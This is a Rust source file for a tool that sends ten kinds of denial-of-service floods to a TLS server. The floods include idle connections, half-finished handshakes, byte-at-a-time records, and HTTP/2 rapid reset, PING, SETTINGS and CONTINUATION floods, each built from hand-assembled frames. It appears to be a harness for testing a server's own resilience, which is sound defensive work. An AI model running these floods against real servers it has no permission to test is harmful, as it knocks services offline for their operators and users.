//! Attackers, on connections of their own: what each does costs little to do, and the server something.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::PathBuf;
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::ensure;
use clap::{Args, ValueEnum};
use rustls::pki_types::ServerName;
use rustls::{ClientConfig, ClientConnection, StreamOwned};

use crate::load::{self, Group};
use crate::pki;

/// At a time.
const ATTACKERS: usize = 2;
/// A server that answers nothing is left after this long.
const PATIENCE: Duration = Duration::from_millis(500);
/// And one that says nothing more to a flood that is over.
const LOOK: Duration = Duration::from_millis(20);

/// RFC 9113, 6.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
const END_STREAM: u8 = 1;

#[derive(Clone, Copy, Debug, Eq, PartialEq, ValueEnum)]
pub(crate) enum Flood {
    /// Fifty connections that say nothing and hang up
    Silence,
    /// Twenty ClientHellos, and then nothing
    Hellos,
    /// A full handshake, and then nothing
    Handshakes,
    /// A request of which each octet is a TLS record
    Records,
    /// HTTP/2: requests that are taken back at once, a hundred in a row
    Resets,
    /// HTTP/2: more streams than the server allows
    Streams,
    /// HTTP/2: a body in frames of one octet
    Octets,
    /// HTTP/2: PING
    Pings,
    /// HTTP/2: SETTINGS
    Settings,
    /// HTTP/2: a head that does not end
    Continuations,
}

impl Flood {
    pub(crate) fn title(self) -> &'static str {
        match self {
            Self::Silence => "connections that say nothing and hang up",
            Self::Hellos => "handshakes that are begun and not finished",
            Self::Handshakes => "handshakes, and no request",
            Self::Records => "TLS records of one octet",
            Self::Resets => "rapid reset",
            Self::Streams => "more streams than are allowed",
            Self::Octets => "DATA an octet at a time",
            Self::Pings => "PING",
            Self::Settings => "SETTINGS",
            Self::Continuations => "CONTINUATION without end",
        }
    }
}

#[derive(Args, Debug)]
pub(crate) struct FloodArguments {
    #[arg(value_enum)]
    flood: Flood,
    target: SocketAddr,
    pki: PathBuf,
    #[arg(long, default_value_t = 2.0)]
    seconds: f64,
}

struct Attacker {
    flood: Flood,
    target: SocketAddr,
    config: Arc<ClientConfig>,
}

/// Prints how often it was done.
pub(crate) fn run(arguments: &FloodArguments) -> anyhow::Result<()> {
    let protocol: &[u8] = if arguments.flood == Flood::Records { b"http/1.1" } else { b"h2" };
    let config = Arc::new(load::config(&arguments.pki, Group::X25519, false, protocol)?);
    let attacker = Attacker { flood: arguments.flood, target: arguments.target, config };
    let (begun, long) = (Instant::now(), Duration::from_secs_f64(arguments.seconds));
    let done: u64 = std::thread::scope(|scope| {
        let attack = || {
            let mut done = 0;
            while begun.elapsed() < long {
                done += u64::from(attacker.attack().is_ok());
            }
            done
        };
        let attackers: Vec<_> = (0..ATTACKERS).map(|_| scope.spawn(attack)).collect();
        attackers.into_iter().map(|attacker| attacker.join().unwrap()).sum()
    });
    ensure!(done > 0, "the server was not attacked");
    println!("{done}");
    Ok(())
}

type Tls = StreamOwned<ClientConnection, TcpStream>;

impl Attacker {
    fn attack(&self) -> anyhow::Result<()> {
        match self.flood {
            Flood::Silence => {
                let open: Result<Vec<_>, _> = (0..50).map(|_| self.connect()).collect();
                open?;
            }
            Flood::Hellos => {
                let half: anyhow::Result<Vec<_>> = (0..20).map(|_| self.half()).collect();
                half?;
            }
            Flood::Handshakes => drop(self.shake_hands()?),
            Flood::Records => {
                let mut stream = self.shake_hands()?;
                let head = format!("GET / HTTP/1.1\r\nHost: {}\r\nX: ", pki::HOST);
                for octet in [head.as_bytes(), &[b'x'; 2000], b"\r\n\r\n"].concat() {
                    stream.write_all(&[octet])?;
                }
                stream.read_exact(&mut [0; 12])?;
            }
            _ => self.speak_http2()?,
        }
        Ok(())
    }

    fn connect(&self) -> std::io::Result<TcpStream> {
        let stream = TcpStream::connect(self.target)?;
        stream.set_nodelay(true)?;
        stream.set_read_timeout(Some(PATIENCE))?;
        stream.set_write_timeout(Some(PATIENCE))?;
        Ok(stream)
    }

    fn client(&self) -> anyhow::Result<ClientConnection> {
        Ok(ClientConnection::new(self.config.clone(), ServerName::try_from(pki::HOST)?)?)
    }

    /// The server has signed, which is what it costs.
    fn half(&self) -> anyhow::Result<TcpStream> {
        let (mut stream, mut client) = (self.connect()?, self.client()?);
        client.write_tls(&mut stream)?;
        stream.read_exact(&mut [0; 64])?;
        Ok(stream)
    }

    fn shake_hands(&self) -> anyhow::Result<Tls> {
        let (mut stream, mut client) = (self.connect()?, self.client()?);
        while client.is_handshaking() {
            client.complete_io(&mut stream)?;
        }
        Ok(StreamOwned::new(client, stream))
    }

    /// A server that ends the connection does what it should.
    fn speak_http2(&self) -> anyhow::Result<()> {
        let mut stream = self.shake_hands()?;
        let begin = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &frame(SETTINGS, 0, 0, &[])[..]].concat();
        let mut pieces = std::iter::once(begin).chain(self.pieces());
        if pieces.all(|piece| stream.write_all(&piece).is_ok()) {
            stream.sock.set_read_timeout(Some(LOOK))?;
            while stream.read(&mut [0; 4096]).is_ok_and(|octets| octets > 0) {}
        }
        Ok(())
    }

    fn pieces(&self) -> Box<dyn Iterator<Item = Vec<u8>>> {
        let repeated = |piece: Vec<u8>, times| Box::new(std::iter::repeat_n(piece, times));
        let streams = |count: u32| (0..count).map(|number| 2 * number + 1);
        let (get, post) = (head("GET"), head("POST"));
        let begin = frame(HEADERS, END_HEADERS, 1, &post);
        match self.flood {
            Flood::Resets => {
                let both = move |id| {
                    let request = frame(HEADERS, END_HEADERS | END_STREAM, id, &get);
                    [request, frame(RST_STREAM, 0, id, &[0, 0, 0, 8])].concat()
                };
                let all: Vec<Vec<u8>> = streams(2000).map(both).collect();
                let some: Vec<Vec<u8>> = all.chunks(100).map(<[_]>::concat).collect();
                Box::new(some.into_iter())
            }
            Flood::Streams => {
                Box::new(streams(2000).map(move |id| frame(HEADERS, END_HEADERS, id, &post)))
            }
            Flood::Octets => {
                let some = frame(DATA, 0, 1, b"x").repeat(50);
                let end = frame(DATA, END_STREAM, 1, b"x");
                let body = std::iter::repeat_n(some, 200).chain([end]);
                Box::new(std::iter::once(begin).chain(body))
            }
            Flood::Pings => repeated(frame(PING, 0, 0, &[7; 8]).repeat(100), 100),
            Flood::Settings => repeated(frame(SETTINGS, 0, 0, &[]).repeat(100), 100),
            _ => {
                let begin = frame(HEADERS, 0, 1, &get);
                let more = frame(CONTINUATION, 0, 1, &[]).repeat(10);
                Box::new(std::iter::once(begin).chain(std::iter::repeat_n(more, 1000)))
            }
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, octets: &[u8]) -> Vec<u8> {
    let length = u32::try_from(octets.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), octets].concat()
}

/// RFC 7541, with nothing put into the table.
fn head(method: &str) -> Vec<u8> {
    let literal = |index: u8, text: &str| {
        [&[index, u8::try_from(text.len()).unwrap()], text.as_bytes()].concat()
    };
    // :method, :scheme https, :path /, :authority.
    [literal(2, method), vec![0x87, 0x84], literal(1, pki::HOST)].concat()
}
